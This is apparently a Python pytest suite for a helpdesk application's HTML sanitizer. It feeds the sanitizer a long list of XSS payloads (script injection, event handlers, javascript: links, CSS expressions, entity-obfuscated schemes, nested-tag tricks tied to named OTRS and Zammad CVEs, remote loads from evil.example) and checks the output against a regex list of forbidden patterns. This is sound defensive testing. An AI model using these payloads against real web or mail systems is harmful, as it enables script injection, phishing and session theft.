"""The HTML sanitizer against the attack classes that hit helpdesks before (OTRS, Zammad) and mail HTML."""

from __future__ import annotations

import re

import pytest

from helpdesk.domain.sanitize import BLOCKED_IMAGE, escape, sanitize_html, text_to_html

# What must never come out of the sanitizer, whatever went in (all checks case-insensitive).
_FORBIDDEN = [
    (re.compile(r"<\s*script", re.I), "<script"),
    (re.compile(r"<[^>]*\son[a-z]+\s*=", re.I), "event handler attribute"),
    (re.compile(r"javascript\s*:", re.I), "javascript:"),
    (re.compile(r"vbscript\s*:", re.I), "vbscript:"),
    (re.compile(r"data:text/html", re.I), "data:text/html"),
    (
        re.compile(r"<\s*(iframe|frame|object|embed|applet|form|input|button|base|meta|link|style|svg|math)\b", re.I),
        "tag",
    ),
    (re.compile(r"expression\s*\(", re.I), "CSS expression()"),
    (re.compile(r"url\s*\(", re.I), "CSS url()"),
    (re.compile(r"@import", re.I), "CSS @import"),
    (re.compile(r"behavior", re.I), "CSS behavior"),
    (re.compile(r"-moz-binding", re.I), "CSS -moz-binding"),
    (re.compile(r"\shref=\"(?!https?:|mailto:|tel:)", re.I), "href with another scheme"),
    (
        re.compile(
            r"\ssrc=\"(?!cid:|data:image/(png|jpe?g|gif|webp|bmp);base64,|" + re.escape(BLOCKED_IMAGE) + ")", re.I
        ),
        "src",
    ),
]


def assert_safe(html: str) -> None:
    for pattern, what in _FORBIDDEN:
        match = pattern.search(html)
        assert match is None, f"{what} survived sanitizing: {html!r}"


ATTACKS = {
    # plain script and event handlers
    "script": "<p>Hallo</p><script>alert(document.cookie)</script>",
    "script-uppercase": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT><p>Hallo</p>",
    "script-in-attribute-less-tag": "<script/src=https://evil.example/x.js></script><p>Hallo</p>",
    "img-onerror": "<p>Hallo</p><img src=x onerror=alert(1)>",
    "img-onerror-remote": '<p>Hallo</p><img src="https://cdn.example/a.png" onerror="alert(1)" ONLOAD="alert(2)">',
    "body-onload": "<body onload=alert(1)><p>Hallo</p></body>",
    "div-onmouseover": '<div onmouseover="alert(1)"><p>Hallo</p></div>',
    "a-onclick": '<p>Hallo</p><a href="https://ok.example" onclick="steal()">ok</a>',
    "svg-onload": "<p>Hallo</p><svg onload=alert(1)><circle r=10 /></svg>",
    "svg-script": "<p>Hallo</p><svg><script>alert(1)</script></svg>",
    "math-xlink": '<p>Hallo</p><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    # dangerous link schemes
    "javascript-link": '<p>Hallo</p><a href="javascript:alert(1)">klick</a>',
    "javascript-link-mixed-case": '<p>Hallo</p><a href="JaVaScRiPt:alert(1)">klick</a>',
    "javascript-link-leading-space": '<p>Hallo</p><a href="  javascript:alert(1)">klick</a>',
    "javascript-link-control-char": '<p>Hallo</p><a href="\x01javascript:alert(1)">klick</a>',
    "data-link": '<p>Hallo</p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klick</a>',
    "vbscript-link": '<p>Hallo</p><a href="vbscript:msgbox(1)">klick</a>',
    "img-javascript-src": '<p>Hallo</p><IMG SRC="javascript:alert(1)">',
    "img-svg-data-src": '<p>Hallo</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # CSS
    "css-expression": '<p style="width: expression(alert(1))">Hallo</p>',
    "css-expression-entity": '<p style="width: expr&#x65;ssion(alert(1))">Hallo</p>',
    "css-expression-escape": '<p style="color: \\65xpression(alert(1))">Hallo</p>',
    "css-expression-comment": '<p style="width: expr/**/ession(alert(1))">Hallo</p>',
    "css-url": '<p style="color: red; background-image: url(javascript:alert(1))">Hallo</p>',
    "css-url-allowed-property": '<p style="border: 1px solid; border-image: url(https://evil.example/b.png)">Hallo</p>',
    "css-import-block": "<style>@import url(https://evil.example/x.css);</style><p>Hallo</p>",
    "css-import-inline": "<p style=\"@import 'https://evil.example/x.css'\">Hallo</p>",
    "css-behavior": '<p style="color: red; behavior: url(x.htc)">Hallo</p>',
    "css-moz-binding": '<p style="-moz-binding: url(https://evil.example/x.xml#xss)">Hallo</p>',
    # document-level tags
    "base-href": '<base href="https://evil.example/"><p>Hallo</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>Hallo</p>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><p>Hallo</p>',
    "form": '<form action="https://evil.example/phish"><input name="pw" type="password"><button>Login</button></form>'
    "<p>Hallo</p>",
    "iframe": '<iframe src="https://evil.example/"></iframe><p>Hallo</p>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>Hallo</p>',
    "object": '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object><p>Hallo</p>',
    "embed": '<embed src="https://evil.example/x.swf"><p>Hallo</p>',
    # OTRS CVE-2014-1695 / CVE-2010-4071 class: script through malformed and nested tags
    "nested-script": "<p>Hallo</p><scr<script>ipt>alert(1)</scr</script>ipt>",
    "double-open-script": "<p>Hallo</p><<script>script>alert(1)<</script>/script>",
    "script-in-comment-trick": "<p>Hallo</p><!--<script>-->alert(1)<!--</script>-->",
    "conditional-comment": "<p>Hallo</p><!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "unclosed-quote": '<p>Hallo</p><img """><script>alert(1)</script>">',
    "noscript-breakout": '<p>Hallo</p><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "title-breakout": "<p>Hallo</p><title><img src=x onerror=alert(1)></title>",
    "textarea-breakout": "<p>Hallo</p><textarea><script>alert(1)</script></textarea>",
    "double-lt-img": "<p>Hallo</p><<img src=x onerror=alert(1)//>",
    # OTRS CVE-2021-21441 class: attributes with newlines, backticks, odd separators
    "attribute-newlines": '<p>Hallo</p><img\nsrc="x"\nonerror="alert(1)"\n>',
    "attribute-newline-before-equals": '<p>Hallo</p><img src="x" onerror\n=alert(1)>',
    "attribute-backticks": "<p>Hallo</p><img src=`x` onerror=`alert(1)`>",
    "attribute-slash-separator": "<p>Hallo</p><img/src=x/onerror=alert(1)>",
    "attribute-entity-handler": "<p>Hallo</p><img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "attribute-tab-in-scheme": '<p>Hallo</p><a href="jav&#x09;ascript:alert(1)">klick</a>',
    "attribute-newline-in-scheme": '<p>Hallo</p><a href="java\nscript:alert(1)">klick</a>',
    # HTML entities obfuscating javascript:
    "entity-decimal": '<p>Hallo</p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'alert(1)">k</a>',
    "entity-hex": '<p>Hallo</p><a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
    'alert(1)">k</a>',
    "entity-no-semicolon": '<p>Hallo</p><a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">k</a>',
    "entity-named-colon": '<p>Hallo</p><a href="javascript&colon;alert(1)">k</a>',
    "img-src-entity": '<p>Hallo</p><img src="&#106;avascript:alert(1)">',
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_is_neutralised(name: str) -> None:
    result = sanitize_html(ATTACKS[name])
    assert_safe(result.html)
    # The harmless part of the mail is still there: sanitizing is not "drop everything".
    assert "Hallo" in result.html


def test_assert_safe_catches_what_it_should() -> None:
    # The checker itself must not be blind: raw attacks fail it.
    for raw in (
        "<script>x</script>",
        '<img src=x onerror="a()">',
        '<a href="JAVASCRIPT:x">',
        "<svg>",
        '<p style="width:expression(1)">',
        '<a href="data:text/html,x">',
    ):
        with pytest.raises(AssertionError):
            assert_safe(raw)


def test_script_in_subject_is_data_zammad_cve_2018_1000154() -> None:
    subject = "<script>alert(document.cookie)</script>Rückfrage zur Rechnung <img src=x onerror=alert(1)>"
    # The subject shown in an HTML context built by us: escaped, never markup.
    assert escape(subject).startswith("&lt;script&gt;alert(document.cookie)&lt;/script&gt;Rückfrage")
    assert "<" not in escape(subject)
    # A subject that is put through the sanitizer (e.g. inside a quoted HTML header block) loses the script.
    result = sanitize_html(f"<p><b>Betreff:</b> {subject}</p>")
    assert_safe(result.html)
    assert "Rückfrage zur Rechnung" in result.html
    assert "alert(document.cookie)" not in result.html


def test_text_to_html_escapes_markup() -> None:
    html = text_to_html('Hallo <script>alert("x")</script>\nZweite Zeile & mehr')
    assert html == "Hallo &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;<br>\nZweite Zeile &amp; mehr"


def test_remote_image_becomes_placeholder_with_original_url() -> None:
    result = sanitize_html('<p>Logo:</p><img src="https://cdn.example/logo.png?a=1&b=2" alt="Logo Müller GmbH">')
    assert result.remote_images == 1
    assert f'src="{BLOCKED_IMAGE}"' in result.html
    assert 'data-remote-src="https://cdn.example/logo.png?a=1&amp;b=2"' in result.html
    assert ' src="https://cdn.example' not in result.html
    assert 'alt="Logo Müller GmbH"' in result.html


def test_remote_image_upper_case_scheme_is_blocked_too() -> None:
    result = sanitize_html('<img src="HTTPS://Tracker.Example/P.GIF" width="1" height="1">')
    assert result.remote_images == 1
    assert 'data-remote-src="HTTPS://Tracker.Example/P.GIF"' in result.html
    assert f'src="{BLOCKED_IMAGE}"' in result.html


def test_remote_image_with_gt_in_an_earlier_attribute_is_blocked() -> None:
    result = sanitize_html('<img alt="a > b" title="x>y" src="https://tracker.example/p.gif">')
    assert result.remote_images == 1
    assert ' src="https://tracker.example' not in result.html
    assert 'data-remote-src="https://tracker.example/p.gif"' in result.html


def test_remote_images_kept_when_not_blocking() -> None:
    result = sanitize_html('<img src="https://cdn.example/logo.png">', block_remote=False)
    assert result.remote_images == 0
    assert 'src="https://cdn.example/logo.png"' in result.html


def test_cid_images_survive() -> None:
    result = sanitize_html('<img width="120" src="cid:image001.png@01DAB1C2.3D4E5F60" alt="Logo">')
    assert 'src="cid:image001.png@01DAB1C2.3D4E5F60"' in result.html
    assert result.cids == ["image001.png@01DAB1C2.3D4E5F60"]
    assert result.remote_images == 0


def test_safe_data_png_survives_other_data_does_not() -> None:
    png = (
        "data:image/png;base64,"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
    result = sanitize_html(f'<img src="{png}" alt="Punkt">')
    assert f'src="{png}"' in result.html
    svg = sanitize_html('<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">')
    assert "data:image/svg" not in svg.html
    html = sanitize_html('<img src="data:text/html;base64,PHNjcmlwdD4=">')
    assert "data:" not in html.html


def test_links_get_rel_and_target() -> None:
    result = sanitize_html(
        '<a href="https://www.example.de/agb" target="_self">AGB</a> <a href="mailto:jörg@example.de">Mail</a>'
    )
    links = re.findall(r"<a [^>]*>", result.html)
    assert len(links) == 2
    for link in links:
        assert 'rel="noopener noreferrer nofollow"' in link
        assert 'target="_blank"' in link
        assert "_self" not in link
    assert 'href="https://www.example.de/agb"' in result.html
    assert 'href="mailto:jörg@example.de"' in result.html


def test_relative_and_protocol_relative_urls_are_dropped() -> None:
    result = sanitize_html('<a href="/intern">a</a><a href="//evil.example/x">b</a><img src="//evil.example/p.gif">')
    assert "href=" not in result.html
    assert "evil.example" not in result.html


def test_tables_and_basic_formatting_survive() -> None:
    raw = (
        '<table border="1" cellpadding="4" style="border-collapse: collapse"><thead><tr><th>Pos.</th>'
        "<th>Bezeichnung</th></tr></thead><tbody><tr><td>1</td>"
        '<td bgcolor="#FFEEDD" style="color: #333333; font-weight: bold">Wartung Heizungsanlage</td></tr>'
        "</tbody></table><p><b>fett</b> <i>kursiv</i> <u>unterstrichen</u> <strong>stark</strong> <em>betont</em><br>"
        '<font color="red" face="Arial">rot</font></p><ul><li>eins</li><li>zwei</li></ul>'
        "<blockquote>Zitat</blockquote><pre>  fest</pre><h2>Überschrift</h2>"
    )
    html = sanitize_html(raw).html
    for fragment in (
        '<table border="1" cellpadding="4" style="border-collapse: collapse">',
        "<th>Bezeichnung</th>",
        '<td bgcolor="#FFEEDD" style="color: #333333; font-weight: bold">Wartung Heizungsanlage</td>',
        "<b>fett</b>",
        "<i>kursiv</i>",
        "<u>unterstrichen</u>",
        "<strong>stark</strong>",
        "<em>betont</em>",
        "<br>",
        '<font color="red" face="Arial">rot</font>',
        "<ul><li>eins</li><li>zwei</li></ul>",
        "<blockquote>Zitat</blockquote>",
        "<pre>  fest</pre>",
        "<h2>Überschrift</h2>",
    ):
        assert fragment in html, fragment


def test_bad_css_declarations_go_good_ones_stay() -> None:
    result = sanitize_html('<p style="color: red; position: fixed; top: 0; background: url(x); font-size: 12px">x</p>')
    assert result.html == '<p style="color: red; font-size: 12px">x</p>'
    assert result.removed_css == 3


def test_bad_attribute_values_are_dropped() -> None:
    html = sanitize_html(
        '<table><tr><td width="100%" height="javascript:1" bgcolor="red;background:url(x)">x</td></tr></table>'
    ).html
    assert 'width="100%"' in html
    assert "height" not in html
    assert "bgcolor" not in html


def test_empty_input() -> None:
    assert sanitize_html("").html == ""
    assert sanitize_html("   \n").html == ""


def test_quote_markers_survive_and_nothing_else_of_id_class_type() -> None:
    """Issue 14 part 9: the markers of quoted history (Outlook, Gmail, Thunderbird, Apple Mail) were stripped
    with every id and class, so the web client could not fold HTML quotes; other values still go."""
    html = (
        '<div id="divRplyFwdMsg" class="x">Von: A</div><div class="gmail_quote other" id="evil">Am … schrieb</div>'
        '<div class="moz-cite-prefix foo">On … wrote:</div><blockquote type="cite" class="bar">alt</blockquote>'
        '<blockquote type="x">b</blockquote><ol type="a"><li>x</li></ol><p class="mso" id="p1">text</p>'
    )
    out = sanitize_html(html).html
    assert '<div id="divRplyFwdMsg">' in out
    assert '<div class="gmail_quote">' in out and '<div class="moz-cite-prefix">' in out
    assert '<blockquote type="cite">alt' in out and "<blockquote>b" in out
    assert "evil" not in out and "mso" not in out and "p1" not in out and "other" not in out
